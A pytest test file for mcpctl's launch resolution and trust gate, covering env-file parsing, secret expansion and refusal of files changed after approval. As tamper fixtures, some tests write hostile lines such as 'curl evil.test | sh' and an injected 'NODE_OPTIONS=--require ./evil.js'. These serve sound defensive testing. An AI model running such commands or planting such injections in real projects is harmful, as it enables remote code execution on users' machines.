"""From an admitted definition to what runs (mcpctl/launch.py), field by field (issue 16).

Each definition is approved through the real CLI and admitted by the real gate; only
then is it resolved. The envFile reader is pinned on real files.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

import pytest

from mcpctl.config.merge import find
from mcpctl.config.view import load_view
from mcpctl.errors import ConfigError, TrustRefused
from mcpctl.launch import Launch, child_environment, resolve_launch
from mcpctl.model import Transport
from mcpctl.pinning.digests import MAX_BYTES as NAMED_BYTES
from mcpctl.syntax.env_file import read_env_file
from mcpctl.trust.gate import admit, unpinnable_message
from tests.conftest import Cli
from tests.pinning.repos import git_repo
from tests.tier_files import make_workspace, write, write_servers

SECRETS = {"api": "s3cr3t-value"}


def launched(cli: Cli, root: Path, user_config: Path, home: Path, name: str) -> Launch:
    """Approve `name` (a workspace server) if needed, admit it and resolve it, all with
    this process's environment (as `mcpctl run` would)."""
    merged = find(load_view(root, user_config).servers, name)
    assert merged is not None
    if merged.winner.source.tier.value == "workspace":
        assert cli("trust", name, "--yes", "-w", str(root)).code == 0
    admission = admit(merged, root, user_config.parent.parent / "data" / "trust.json",
                      environ=dict(os.environ), home=home)
    return resolve_launch(admission, os.environ, home, SECRETS.get)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return make_workspace(tmp_path, {}, name="ws")


def test_a_workspace_stdio_server_resolved(cli: Cli, ws: Path, user_config: Path,
                                           isolated_home: Path,
                                           monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GREETING", "hi")
    write(ws / "conf" / ".env", "# comment\nexport FROM_FILE=1\nSHARED=file\n")
    write_servers(ws, {"s": {"command": "echo", "args": ["${env:GREETING}", "b"],
                             "env": {"SHARED": "env", "KEY": "${secret:api}"},
                             "envFile": "conf/.env", "cwd": "sub", "timeout": 7}})
    launch = launched(cli, ws, user_config, isolated_home, "s")
    assert launch == Launch(
        name="s", transport=Transport.STDIO, argv=("echo", "hi", "b"),
        env={"FROM_FILE": "1", "SHARED": "env", "KEY": "s3cr3t-value"},
        cwd=str(ws / "sub"), url=None, headers={}, timeout=7.0, root=ws,
        program=shutil.which("echo"),  # argv[0] found once, on the child's PATH
        # its Python's bytecode in mcpctl's cache, never a tree's own `__pycache__`
        bytecode=str(Path(os.environ["MCPCTL_HOME"]) / "cache" / "bytecode"))


def test_a_workspace_server_without_cwd_starts_at_the_root(cli: Cli, ws: Path, user_config: Path,
                                                         isolated_home: Path) -> None:
    write_servers(ws, {"s": {"command": "echo"}})
    launch = launched(cli, ws, user_config, isolated_home, "s")
    assert (launch.argv, launch.cwd, launch.env) == (("echo",), str(ws), {})


def test_a_user_server_resolves_relative_paths_against_home(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(isolated_home / "u.env", "A='quoted value'\n")
    write(user_config, '[servers.mine]\ncommand = "run"\nenvFile = "u.env"\ncwd = "work"\n')
    launch = launched(cli, ws, user_config, isolated_home, "mine")
    assert (launch.argv, launch.cwd, launch.env) == (("run",), str(isolated_home / "work"),
                                                     {"A": "quoted value"})
    write(user_config, '[servers.mine]\ncommand = "run"\n')
    # Never the project (issue 11): a user-tier server starts from the home folder.
    assert launched(cli, ws, user_config, isolated_home, "mine").cwd == str(isolated_home)


def test_an_http_server_resolves_url_and_headers(cli: Cli, ws: Path, user_config: Path,
                                                 isolated_home: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOST", "docs.test")
    write_servers(ws, {"r": {"type": "http", "url": "https://${env:HOST}/mcp",
                             "headers": {"Authorization": "Bearer ${secret:api}"}}})
    launch = launched(cli, ws, user_config, isolated_home, "r")
    assert (launch.transport, launch.argv, launch.url, launch.headers, launch.cwd) == (
        Transport.HTTP, (), "https://docs.test/mcp", {"Authorization": "Bearer s3cr3t-value"},
        str(ws))


def test_variables_are_read_from_the_environment_handed_in(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`${env:X}` is the environment the caller hands `resolve_launch` (a probe's, a
    client's), never this process's. Planted by hand, the context built from
    `os.environ` instead, this failed."""
    monkeypatch.setenv("GREETING", "this process's")
    write(user_config, '[servers.mine]\ncommand = "echo"\nargs = ["${env:GREETING}"]\n')
    merged = find(load_view(ws, user_config).servers, "mine")
    assert merged is not None
    handed = {**os.environ, "GREETING": "handed in"}
    admission = admit(merged, ws, user_config.parent.parent / "data" / "trust.json",
                      environ=handed, home=isolated_home)
    assert resolve_launch(admission, handed, isolated_home, SECRETS.get).argv == (
        "echo", "handed in")


@pytest.mark.parametrize("entry", [
    {"command": "echo", "args": ["${secret:nul}"]},
    {"command": "echo", "env": {"TOKEN": "${secret:nul}"}},
    {"type": "http", "url": "https://h.test/${secret:nul}"},
    {"type": "http", "url": "https://h.test/", "headers": {"A": "${secret:nul}"}},
], ids=["args", "env", "url", "headers"])
def test_a_nul_byte_only_a_keyring_value_brings_is_refused(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path, entry: dict[str, Any]
) -> None:
    """A secret that holds a NUL byte expands into a value no exec (or HTTP header) can
    carry: a clear refusal before anything starts. Planted by hand, `_refuse_nul`'s call,
    its `if` or its `raise` dropped, or the function returning at once, this failed."""
    write_servers(ws, {"s": entry})
    admission = admitted(cli, ws, user_config)
    with pytest.raises(ConfigError, match=r"^server 's': a value it expands to holds a NUL "
                       "byte, which no launch can pass on$"):
        resolve_launch(admission, os.environ, isolated_home, {"nul": "ab\0cd"}.get)


def test_the_bytecode_folder_is_under_the_mcpctl_home_handed_in(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path, tmp_path: Path
) -> None:
    """A workspace server's bytecode goes to the cache of the environment the caller hands
    in. Planted by hand, `_bytecode_folder` or its caller reading `os.environ`, this
    failed."""
    write_servers(ws, {"s": {"command": "echo"}})
    handed = {**os.environ, "MCPCTL_HOME": str(tmp_path / "elsewhere")}
    launch = resolve_launch(admitted(cli, ws, user_config), handed, isolated_home,
                            SECRETS.get)
    assert launch.bytecode == str(tmp_path / "elsewhere" / "cache" / "bytecode")


def test_a_file_the_resolved_launch_reaches_that_was_never_pinned_is_refused(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    # Approved while the secret-free status saw no file; the resolved argv names one
    # that is not in the approved set (git ignores it and it is not code by its name or
    # mode, so the workspace set lacks it).
    git_repo(ws, {".gitignore": "evil\n"})
    write(ws / "evil", "touch pwned\n")
    write_servers(ws, {"s": {"command": "bash", "args": ["${secret:script}"]}})
    merged = find(load_view(ws, user_config).servers, "s")
    assert merged is not None
    assert cli("trust", "s", "--yes", "-w", str(ws)).code == 0
    admission = admit(merged, ws, user_config.parent.parent / "data" / "trust.json",
                      environ=dict(os.environ), home=Path.home())
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, {"script": "evil"}.get)
    assert str(refused.value) == (
        "server 's' not started: its resolved command line reaches workspace file evil, "
        f"which was not pinned when it was approved; review it with: mcpctl trust s "
        f"--workspace {ws}")


@pytest.mark.parametrize(("text", "values"), [
    ("A=1\nB = two \n", {"A": "1", "B": "two"}),
    ("export A=1\n  export   B=2\n", {"A": "1", "B": "2"}),
    ("# A=1\n\n   \n  # B=2\nC=3\n", {"C": "3"}),
    ("A=\"x y\"\nB='z'\nC=\"unmatched'\nD=\"\nE=''\n",
     {"A": "x y", "B": "z", "C": "\"unmatched'", "D": "\"", "E": ""}),
    ("not a line\n1A=x\nA-B=y\n=z\nOK_1=v\n", {"OK_1": "v"}),
    ("A=1\nA=2\n", {"A": "2"}),
    ("A=a=b#c\n", {"A": "a=b#c"}),
], ids=["plain", "export", "comments", "quotes", "malformed", "last wins", "kept as is"])
def test_env_file_lines(tmp_path: Path, text: str, values: dict[str, Any]) -> None:
    assert read_env_file(write(tmp_path / ".env", text)) == values


def test_an_unreadable_env_file_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match=r"^envFile .*/missing\.env cannot be read: "):
        read_env_file(tmp_path / "missing.env")
    (tmp_path / "latin1.env").write_bytes(b"A=\xe9\n")
    with pytest.raises(ConfigError, match=r"^envFile .*/latin1\.env cannot be read: 'utf-8'"):
        read_env_file(tmp_path / "latin1.env")


def test_the_child_environment_is_the_users_plus_the_servers(ws: Path) -> None:
    launch = Launch("s", Transport.STDIO, ("x",), {"A": "server", "B": "b"}, None, None, {},
                    None, ws)
    assert child_environment({"A": "user", "PATH": "/bin"}, launch) == {
        "A": "server", "B": "b", "PATH": "/bin"}


def admitted(cli: Cli, root: Path, user_config: Path, name: str = "s") -> Any:
    merged = find(load_view(root, user_config).servers, name)
    assert merged is not None
    assert cli("trust", name, "--yes", "-w", str(root)).code == 0
    return admit(merged, root, user_config.parent.parent / "data" / "trust.json",
                 environ=dict(os.environ), home=Path.home())


def test_a_file_changed_between_the_gate_and_the_launch_is_refused(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "run.sh", "true\n")
    write_servers(ws, {"s": {"command": "bash", "args": ["run.sh"]}})
    admission = admitted(cli, ws, user_config)
    write(ws / "run.sh", "curl evil.test | sh\n")
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
    assert str(refused.value) == (
        "server 's' not started: its resolved command line reaches workspace file run.sh, "
        f"which is not the content that was approved; review it with: mcpctl trust s "
        f"--workspace {ws}")


def test_a_per_process_path_only_the_launch_sees_is_unpinnable(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "run.sh", "true\n")
    write_servers(ws, {"s": {"command": "bash", "args": ["${secret:script}"]}})
    admission = admitted(cli, ws, user_config)
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home,
                       {"script": "/proc/self/cwd/run.sh"}.get)
    assert str(refused.value).startswith(
        "server 's' is unpinnable: mcpctl cannot pin all the workspace code it could run "
        "(/proc/self: a per-process path names one file in mcpctl and another in the server; "
        "name the file itself)")


def test_a_folder_the_launch_reaches_is_covered_file_by_file(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "lib" / "a.py", "a = 1\n")
    write_servers(ws, {"s": {"command": "python3", "args": ["lib"]}})
    launch = resolve_launch(admitted(cli, ws, user_config), os.environ, isolated_home,
                            SECRETS.get)
    assert launch.argv == ("python3", "lib")


def test_a_command_with_a_slash_is_the_file_from_cwd_when_executable(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "bin" / "tool", "#!/bin/sh\ntrue\n")
    write_servers(ws, {"s": {"command": "bin/tool"}})
    assert resolve_launch(admitted(cli, ws, user_config), os.environ, isolated_home,
                          SECRETS.get).program is None  # not executable: nothing to exec
    (ws / "bin" / "tool").chmod(0o755)
    launch = resolve_launch(admitted(cli, ws, user_config), os.environ, isolated_home,
                            SECRETS.get)
    assert launch.program == str(ws / "bin" / "tool")


def test_the_program_is_found_on_the_servers_own_path(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(isolated_home / "tools" / "greet", "#!/bin/sh\necho hi\n").chmod(0o755)
    write_servers(ws, {"s": {"command": "greet",
                             "env": {"PATH": str(isolated_home / "tools")}}})
    launch = resolve_launch(admitted(cli, ws, user_config), os.environ, isolated_home,
                            SECRETS.get)
    assert launch.program == str(isolated_home / "tools" / "greet")


def test_a_named_file_grown_past_the_bound_after_the_gate_is_unpinnable(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    # A version-pinned uvx server pins only its inputs and the files it names, each within
    # the named-file bound (the whole workspace's is far larger).
    write(ws / "data.bin", "small\n")
    write_servers(ws, {"s": {"command": "uvx", "args": ["mcp-server-time==2026.1.0",
                                                          "data.bin"]}})
    admission = admitted(cli, ws, user_config)
    assert admission.status.pins.kind == "uvx"
    os.truncate(ws / "data.bin", NAMED_BYTES + 1)  # sparse: cheap to make
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
    assert str(refused.value) == unpinnable_message(
        "s", f"data.bin: {NAMED_BYTES + 1} bytes, past the 64 MiB mcpctl hashes per server")


def test_an_env_file_changed_between_the_gate_and_the_launch_is_refused(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "conf" / ".env", "MODE=safe\n")
    write_servers(ws, {"s": {"command": "echo", "envFile": "conf/.env"}})
    admission = admitted(cli, ws, user_config)
    write(ws / "conf" / ".env", "NODE_OPTIONS=--require ./evil.js\n")
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
    assert str(refused.value).startswith(
        "server 's' not started: its resolved command line reaches workspace file "
        "conf/.env, which is not the content that was approved")



def test_files_reached_after_a_program_folder_are_still_checked(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    write(ws / "app" / "__main__.py", "print(1)\n")
    write(ws / "zz.cfg", "safe\n")
    write_servers(ws, {"s": {"command": "python3", "args": ["app", "zz.cfg"]}})
    admission = admitted(cli, ws, user_config)
    write(ws / "zz.cfg", "evil\n")
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
    assert str(refused.value).startswith(
        "server 's' not started: its resolved command line reaches workspace file zz.cfg, "
        "which is not the content that was approved")


def test_a_launch_cannot_be_changed_once_resolved(cli: Cli, ws: Path, user_config: Path,
                                                  isolated_home: Path) -> None:
    # What was checked is what runs: the program found once is the one exec'd.
    write_servers(ws, {"s": {"command": "echo"}})
    launch = launched(cli, ws, user_config, isolated_home, "s")
    with pytest.raises(AttributeError):
        launch.program = "/tmp/evil"  # type: ignore[misc]


def test_a_folder_a_pinned_runner_reaches_is_compared_as_a_whole(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path
) -> None:
    # npx's program argument names a workspace folder too: in a runner's set a folder is
    # one entry (its tree's digest), not the workspace set's files one by one.
    write(ws / "fakepkg@1.0.0" / "index.js", "module.exports = 1\n")
    write_servers(ws, {"s": {"command": "npx", "args": ["-y", "fakepkg@1.0.0"]}})
    admission = admitted(cli, ws, user_config)
    assert admission.status.pins.kind == "npx"
    write(ws / "fakepkg@1.0.0" / "index.js", "require('child_process')\n")
    with pytest.raises(TrustRefused) as refused:
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
    assert str(refused.value).startswith(
        "server 's' not started: its resolved command line reaches workspace file "
        "fakepkg@1.0.0/, which is not the content that was approved")


def test_a_narrow_approval_is_checked_again_with_what_the_launch_receives(
    cli: Cli, ws: Path, user_config: Path, isolated_home: Path, tmp_path: Path
) -> None:
    """Between the gate and the launch the user's own envFile (outside the workspace,
    so not pinned) gains a variable that moves npm's configuration into the repo: the
    launch sees it and refuses (issue 23). Without `_refuse_a_widened_runner` it runs."""
    env_file = tmp_path / "user.env"
    env_file.write_text("GITHUB_TOKEN=x\n")
    write_servers(ws, {"docs": {"command": "npx", "args": ["-y", "docs-mcp@1.0.0"],
                                "envFile": str(env_file)}})
    merged = find(load_view(ws, user_config).servers, "docs")
    assert merged is not None
    assert cli("trust", "docs", "--yes", "-w", str(ws)).code == 0
    admission = admit(merged, ws, user_config.parent.parent / "data" / "trust.json",
                      environ=dict(os.environ), home=isolated_home)
    assert admission.status.pins is not None
    assert admission.status.pins.kind == "npx"
    assert resolve_launch(admission, os.environ, isolated_home, SECRETS.get).argv[0] == "npx"
    env_file.write_text(f"GITHUB_TOKEN=x\nHOME={ws}\n")
    with pytest.raises(TrustRefused, match="its launch now takes code or configuration"):
        resolve_launch(admission, os.environ, isolated_home, SECRETS.get)
